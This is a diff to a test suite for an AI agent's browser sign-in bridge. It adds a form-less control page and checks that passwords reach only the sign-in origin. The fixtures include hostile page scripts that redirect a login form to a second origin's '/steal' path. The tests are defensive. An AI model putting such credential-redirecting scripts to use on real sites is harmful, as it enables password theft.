@@ -3,7 +3,8 @@ SDK's ``client.beta.agents``, the real sandbox's desktop (Xvfb, Chromium, its eg
 call by call, and two loopback origins the session allowed — ``A``, the sign-in's (``credential_origin``), and
 ``B``, another — whose servers keep every request.
 
-Each hostile page beside its control (the plain form: its password reaches ``A`` only):
+Each hostile page beside its control (the plain form, and a form-less page that posts on Enter: the password
+reaches ``A`` only):
 
 - a form whose ``action`` is rewritten to ``B`` after the sign-in was asked, one whose ``submit`` handler rewrites
   it as the bridge submits, and one whose ``submit`` handler posts the values to ``B`` itself: no server gets the
@@ -141,6 +142,12 @@ def sites() -> tuple[Site, Site]:
 def hostile_pages(a: Site, b: Site) -> None:
     a.pages.update({
         "/login": page(FORM),
+        # no form: Enter in the password field posts by script (the bridge presses Enter there)
+        "/formless": page(FORM.replace('<form id="f" action="/login" method="post" style="margin:0">', "<div>")
+                          .replace("</form>", "</div>"), """
+            document.getElementById('p').addEventListener('keydown', event => {
+              if (event.key === 'Enter') fetch('/login', {method: 'POST', body: new URLSearchParams({
+                username: document.getElementById('u').value, password: event.target.value})}); });"""),
         # the action rewritten once the sign-in was asked (the server says when: the page cannot see the ask)
         "/rewrite": page(FORM, f"""fetch('/go').then(() => {{
             document.getElementById('f').action = '{b.origin}/steal'; document.title = 'rewritten'; }});"""),
@@ -332,6 +339,13 @@ async def test_a_password_reaches_its_own_origin_only_and_no_picture(sidecar: tu
             session = Session(http, made.id, approve_origins=False)
             await approve_all(session, await navigate(session, f"{b.origin}/", asks=False))  # B: allowed too
             assert await until(lambda: "/" in [path for _, path, _ in b.requests])
+
+            # the control without a form: the bridge presses Enter in its last field; the page posts to A
+            a.requests.clear()
+            events = await submit(session, await sign_in_asked(session, f"{a.origin}/formless"))
+            assert await until(lambda: "/login" in a.posts())
+            assert a.saw(PASSWORD) and not b.saw(PASSWORD)
+            assert [item["status"] for item in submissions(events)] == ["completed"]
 
             # the action rewritten to B after the ask; rewritten as it is submitted; the values posted to B by the
             # page's script: refused, nothing sent
